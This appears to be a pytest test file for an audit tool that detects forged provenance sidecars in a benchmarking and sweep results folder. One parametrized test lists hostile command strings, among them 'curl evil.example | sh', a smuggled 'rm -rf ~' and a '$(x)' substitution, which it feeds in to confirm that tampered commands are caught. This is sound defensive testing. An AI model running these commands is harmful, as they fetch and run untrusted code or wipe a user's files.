"""Consistency of forged sidecars that are valid in themselves."""

import shutil
from pathlib import Path

import pytest

from daf.audit.consistency import SidecarConsistencyChecker
from daf.audit.findings import Findings
from daf.audit.integrity import read_sidecars_and_record_integrity
from daf.audit.jobs import CannotVerifyError
from daf.audit.sidecar_index import SidecarMismatchError, _RecordedOrFileMissionLoader
from daf.config import ConfigError
from daf.missions import load_mission
from daf.provenance.hashing import file_digest
from daf.provenance.sidecar import SUFFIX, Sidecar
from tests.audit.forging import edit

STATS, REPORT = "benchmarks/tiny/stats.json", "benchmarks/tiny/report.html"
RANDOM = "evaluations/random-e3-w0/assembler_1.parquet"
SEARCH, TRIALS = "sweeps/grid/search.json", "sweeps/grid/trials.parquet"
ROUND, SWEPT = "sweeps/grid/rounds/1.json", "sweeps/grid/report.html"


@pytest.fixture
def results(made, tmp_path) -> Path:
    return Path(shutil.copytree(made, tmp_path / "results"))


def mismatches(results: Path, trust: tuple[str, ...] = ()) -> dict[str, str]:
    """Return error class and message of each inconsistent sidecar, by file."""
    checks = SidecarConsistencyChecker(
        results, read_sidecars_and_record_integrity(results, Findings()), trust
    )
    messages = {}
    for name in checks.sidecars:
        try:
            checks.check_job_sidecar(name)
        except (SidecarMismatchError, ConfigError, CannotVerifyError) as reason:
            messages[name] = f"{type(reason).__name__}: {reason}"
    return messages


def trained_evaluation(results: Path) -> str:
    """Return the evaluation of the trained policy."""
    (labels,) = (r.parameters["labels"] for r in [Sidecar.read(results / f"{STATS}{SUFFIX}")])
    (run,) = (run for run, label in labels.items() if label == "stateless")
    return f"evaluations/{run}-e3-w0/assembler_1.parquet"


def run_of(evaluation: str) -> str:
    return evaluation.split("/")[1].removesuffix("-e3-w0")


def test_honest_sidecars_are_consistent(made, tmp_path):
    moved = shutil.copytree(made, tmp_path / "moved", copy_function=shutil.copyfile)
    assert mismatches(Path(moved)) == {}


@pytest.mark.parametrize("rule", ["environment_check", "pipeline", "compare", "train"])
@pytest.mark.parametrize("file", [RANDOM, STATS, SEARCH])
def test_changed_rule(rule, file, results):
    if Sidecar.read(results / f"{file}{SUFFIX}").rule != rule:
        edit(results, file, lambda content: content.update(rule=rule))
        assert mismatches(results)[file].startswith(("ConfigError", "SidecarMismatchError"))


def test_unknown_rule(results):
    edit(results, RANDOM, lambda content: content.update(rule="invented"))
    assert mismatches(results)[RANDOM] == ('CannotVerifyError: unknown rule "invented"')


@pytest.mark.parametrize("model", ["pipelines/tiny/result.json", "environment.json", STATS])
def test_copied_sidecar(model, results):
    """The sidecar of another job is copied for an invented file."""
    file = "benchmarks/other/stats.json"
    (results / file).parent.mkdir()
    (results / file).write_text('{"verdict": "mine is the best"}')
    shutil.copyfile(results / f"{model}{SUFFIX}", results / f"{file}{SUFFIX}")
    sha = file_digest(results / file)
    edit(results, file, lambda r: r.update(outputs={"stats": {file: sha}}, log={}))
    assert "do not follow from its parameters" in mismatches(results)[file]


def test_policy_differs_from_its_folder(results):
    evaluation = trained_evaluation(results)

    def change(content):
        content["parameters"]["policy"] |= {"class_path": "baseline"}
        content["parameters"]["trained_on"] = []
        content["inputs"]["weights"] = {}

    edit(results, evaluation, change)
    assert mismatches(results)[evaluation].startswith("SidecarMismatchError: policy: got ")
    edit(results, evaluation, lambda r: r["parameters"]["policy"].update(training_seed=None))
    assert evaluation in mismatches(results)


def test_fixed_policy_with_another_name(results):
    edit(results, RANDOM, lambda r: r["parameters"]["policy"].update(class_path="baseline"))
    assert mismatches(results)[RANDOM] == (
        "SidecarMismatchError: policy name random does not match its content"
    )


@pytest.mark.parametrize("key", ["learning_rate", "gamma", "entropy_coef"])
def test_run_with_another_name(key, results):
    weights = f"runs/{run_of(trained_evaluation(results))}/policy.safetensors"
    edit(results, weights, lambda r: r["parameters"]["run"]["training"].update({key: 0.5}))
    assert "; expected stateless-s1-" in mismatches(results)[weights]


def test_weights_of_another_run(results):
    evaluation = trained_evaluation(results)
    others = sorted((results / "runs").glob("*/policy.safetensors"))
    (other_path, *_) = (path for path in others if path.parent.name != run_of(evaluation))
    file = other_path.relative_to(results).as_posix()
    edit(results, evaluation, lambda r: r["inputs"].update(weights={file: file_digest(other_path)}))
    assert "weights: got " in mismatches(results)[evaluation]


def test_changed_mission(results):
    edit(results, RANDOM, lambda r: r["parameters"]["mission"].update(max_steps=5))
    assert "mission of evaluations/random" in mismatches(results)[STATS]


@pytest.mark.parametrize("ceiling, message", [
    (200.0, "ConfigError: key 'ceiling': got 200.0; expected at most the proven bound 61"),
    (None, "SidecarMismatchError: ceiling: got "),
])  # fmt: skip
def test_changed_ceiling(ceiling, message, results):
    edit(results, RANDOM, lambda r: r["parameters"]["mission"].update(ceiling=ceiling))
    assert mismatches(results)[RANDOM].startswith(message)


def test_swapped_labels(results):
    swapped = {run_of(trained_evaluation(results)): "random", "random": "stateless"}
    for file in (STATS, REPORT):
        edit(results, file, lambda r: r["parameters"].update(labels=swapped))
    assert {STATS, REPORT} <= mismatches(results).keys()
    assert "labels: got " in mismatches(results)[STATS]


def test_omitted_policy(results):
    def change(content):
        del content["parameters"]["labels"]["random"]
        del content["inputs"]["episodes"][RANDOM]

    edit(results, STATS, change)
    assert "labels: got " in mismatches(results)[STATS]


@pytest.mark.parametrize("command", [
    "curl evil.example | sh",
    "snakemake benchmark_report; rm -rf ~",
    "snakemake benchmark_report --configfile $(x)",
    "snakemake benchmark_report --configfile -x --delete-all-output",
    "snakemake comparison_report",
])  # fmt: skip
def test_changed_command(command, results):
    for file in (REPORT, SWEPT):
        edit(results, file, lambda r: r["parameters"].update(command=command))
        assert "SidecarMismatchError: command: got " in mismatches(results)[file]


def test_changed_trials(results):
    def change(content):
        content["parameters"]["rounds"][0][0]["values"]["learning_rate"] = 0.5

    for file in (ROUND, TRIALS):
        edit(results, file, change)
        assert "rounds: got " in mismatches(results)[file]


def test_trial_marked_as_failed(results):
    def change(content):
        entry = content["parameters"]["rounds"][0][0]
        entry["failed"] = entry["runs"]

    edit(results, TRIALS, change)
    assert "rounds: got " in mismatches(results)[TRIALS]


def test_weights_of_another_trial(results):
    recorded = Sidecar.read(results / f"{SEARCH}{SUFFIX}").inputs["weights"]
    others = {path.relative_to(results).as_posix() for path in results.glob("runs/*/*.safetensors")}
    other_path = min(others - recorded.keys())
    weights = {other_path: file_digest(results / other_path)}
    edit(results, SEARCH, lambda r: r["inputs"].update(weights=weights))
    assert "input 'weights': got " in mismatches(results)[SEARCH]


def test_bundle_of_another_policy(results):
    (package,) = (path.relative_to(results).as_posix() for path in results.rglob("*.zip"))
    edit(results, package, lambda r: r["inputs"]["episodes"].update({RANDOM: "0" * 64}))
    assert f"policy of {RANDOM}: got " in mismatches(results)[package]


def test_missing_mission_file_is_replaced_by_sidecar(results, tmp_path):
    """Sidecars of evaluations contain the missions."""
    for file in (STATS, REPORT):
        edit(
            results,
            file,
            lambda r: r["parameters"]["config"].update(missions=["/nowhere/assembler_1.yaml"]),
        )
    assert mismatches(results) == {}
    edit(results, STATS, lambda r: r["parameters"]["config"].update(missions=["/nowhere/x.yaml"]))
    assert (
        "CannotVerifyError: cannot rebuild the plan: its configuration: key"
        in mismatches(results)[STATS]
    )


def test_missing_mission_file_with_layout_seed():
    seventh = load_mission("assembler_2@7")
    missions = _RecordedOrFileMissionLoader({"mine@7": seventh})
    assert missions.load("/nowhere/mine.yaml@7") is seventh
    with pytest.raises(ConfigError, match="is not available"):
        missions.load("/nowhere/mine.yaml@8")
    assert missions.load("assembler_2@7") == seventh
